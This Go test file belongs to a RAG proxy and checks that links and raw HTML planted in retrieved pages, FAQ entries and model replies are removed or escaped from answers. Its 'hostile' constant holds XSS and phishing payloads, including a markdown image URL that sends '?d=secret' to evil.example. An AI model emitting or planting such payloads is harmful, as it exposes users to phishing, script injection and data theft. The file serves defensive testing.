package grounding

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/ragproxy/ragproxy/index"
	"github.com/ragproxy/ragproxy/internal/ssetest"
	"github.com/ragproxy/ragproxy/retrieval"
	"github.com/ragproxy/ragproxy/retrieval/faq"
	"github.com/ragproxy/ragproxy/server"
)

// hostile holds the forms TestLinkFilter takes out and the raw HTML a page or an FAQ entry could plant.
const hostile = "[login](https://evil.example/phish) ![i](HTTPS://evil.example/p.png?d=secret) " +
	"[click](javascript:alert(1)) [d](data:text/html;base64,PHNjcmlwdD4=) <data:text/html,hi> [p](//evil.example/x) " +
	"www.evil.example/y HTTPS://EVIL.EXAMPLE/z <img src=x onerror=alert(1)> <a href=\"javascript:alert(2)\">a</a> " +
	"<script>alert(3)</script> <!-- c --> </div>"

// plantedIn reports what of hostile survived in an answer.
func plantedIn(answer string) []string {
	var out []string
	lower := strings.ToLower(answer)
	for _, s := range []string{"evil.example", "](javascript:", "](data:", "<data:", "<img", "<a ", "<script", "</a", "<!--", "</div"} {
		if strings.Contains(lower, s) {
			out = append(out, s)
		}
	}
	return out
}

// TestEveryAnswerPathIsClean runs the planted links and HTML through every kind of answer: the model's, streamed
// and not, the offline extractive answer quoting a planted page, direct answers of the operator's FAQ and of a
// page's FAQ markup, and a task answer written here quoting the user.
func TestEveryAnswerPathIsClean(t *testing.T) {
	base, tok := exampleIndex(t)
	whole, err := base.Index().Whole() // texts in memory, to plant some
	if err != nil {
		t.Fatal(err)
	}
	ix := *whole
	ix.Pages = slices.Clone(ix.Pages)
	ix.Chunks = slices.Clone(ix.Chunks)
	var (
		r       *retrieval.Retriever
		planted bool
	)
	for i := range ix.Chunks {
		text, err := ix.ChunkText(i)
		if err != nil {
			t.Fatal(err)
		}
		const fact = "Student parking permits cost $180 per year"
		if strings.Contains(text, fact) {
			ix.Chunks[i].Text = strings.Replace(text, fact, fact+" (pay: "+hostile+")", 1)
			planted = true
		}
	}
	life, ok := ix.PageByURL(lifeURL)
	if !ok || !planted {
		t.Fatal("no student life page, or no tuition chunk")
	}
	life.FAQ = []index.FAQEntry{{Question: "How many boats does the sailing club own?", Answer: "12 dinghies. " + hostile,
		URL: lifeURL + "#sailing", Source: "heading"}}
	emb, err := retrieval.EmbedderFor(&ix, nil)
	if err != nil {
		t.Fatal(err)
	}
	r, err = retrieval.New(&ix, emb, tok, base.Config())
	if err != nil {
		t.Fatal(err)
	}
	operatorFAQ := faq.NewMatcher([]faq.Entry{{Question: "When do fall 2024 classes begin?",
		Answer: "On August 26. " + hostile, URL: calendarURL, Title: "Academic Calendar"}})
	question := func(q string) string {
		b, _ := json.Marshal(map[string]any{"model": "ragproxy", "messages": []map[string]string{{"role": "user", "content": q}}})
		return string(b)
	}
	title := question("Provide a concise, 5-word-or-less title for the conversation, using title case:\n\nUser: fees " + hostile)
	for _, c := range []struct {
		name string
		g    *Grounder
		body string
		keep string // what of the answer must stay
		tags bool   // the answer quotes the tags, escaped
	}{
		{"model answer", &Grounder{Retriever: r, Tokenizer: tok}, question("how much is in-state tuition per semester?"), "login i click d", true},
		{"offline answer", &Grounder{Retriever: r, Tokenizer: tok, Offline: true}, question("how much do student parking permits cost per year?"), "login i click d", true},
		{"operator FAQ, direct", &Grounder{Retriever: r, Tokenizer: tok, FAQ: operatorFAQ}, question("When do fall 2024 classes begin"), "On August 26. login", true},
		{"site FAQ, direct", &Grounder{Retriever: r, Tokenizer: tok, SiteFAQ: SiteFAQDirect}, question("how many boats does the sailing club own"), "12 dinghies. login", true},
		{"offline title task", &Grounder{Retriever: r, Tokenizer: tok, Offline: true}, title, "Fees Login", false},
	} {
		h := newHarness(t, server.Config{Grounder: c.g}, replying("Tuition: "+hostile))
		for _, stream := range []bool{false, true} {
			body := strings.Replace(c.body, "{", `{"stream":`+map[bool]string{false: "false", true: "true"}[stream]+",", 1)
			resp, out := h.post(t, "/chat/completions", body)
			if resp.StatusCode != 200 {
				t.Fatalf("%s, stream %v: status %d: %s", c.name, stream, resp.StatusCode, out)
			}
			answer := ssetest.Answer(t, out)
			if got := plantedIn(answer); len(got) > 0 {
				t.Errorf("%s, stream %v: %q survived in %q", c.name, stream, got, answer)
			}
			if !strings.Contains(answer, c.keep) || c.tags && !strings.Contains(answer, "&lt;img src=x") {
				t.Errorf("%s, stream %v: answer lacks %q or the escaped tag: %q", c.name, stream, c.keep, answer)
			}
		}
	}
}

// TestHTMLEscaper checks the escaping of raw HTML, whole and split at every byte: tags go, autolinks, comparisons
// and fenced code stay.
func TestHTMLEscaper(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"a <b>bold</b> c", "a &lt;b>bold&lt;/b> c"},
		{"x < y and 1<2", "x < y and 1<2"},
		{"see <https://site.edu/a/> ok", "see <https://site.edu/a/> ok"},
		{"<IMG SRC=x onerror=alert(1)>", "&lt;IMG SRC=x onerror=alert(1)>"},
		{"<!-- c --> <?php ?> <![CDATA[x]]>", "&lt;!-- c --> &lt;?php ?> &lt;![CDATA[x]]>"},
		{"<a:b>", "&lt;a:b>"},
		{"```html\n<div>code</div>\n```\n<div>not code</div>", "```html\n<div>code</div>\n```\n&lt;div>not code&lt;/div>"},
		{"~~~~\n<p>\n~~~\n<p>\n  ~~~~  \n<p>", "~~~~\n<p>\n~~~\n<p>\n  ~~~~  \n&lt;p>"},
		// A fence indented under a list item may end with the item: only a fence at the start of a line is code.
		{"- a\n\n   ```\n<img onerror=x>", "- a\n\n   ```\n&lt;img onerror=x>"},
		{"``` a`b\n<b>", "``` a`b\n&lt;b>"},
		{"`<b>` inline", "`&lt;b>` inline"},
		{"ends with <", "ends with <"},
		{"<" + strings.Repeat("a", 40), "&lt;" + strings.Repeat("a", 40)},
	} {
		for cut := range len(c.in) {
			e := htmlEscaper{lineStart: true}
			got := e.write(c.in[:cut], false) + e.write(c.in[cut:], false) + e.write("", true)
			if diff := cmp.Diff(c.want, got); diff != "" {
				t.Fatalf("%q split at %d (-want +got):\n%s", c.in, cut, diff)
			}
		}
	}
}
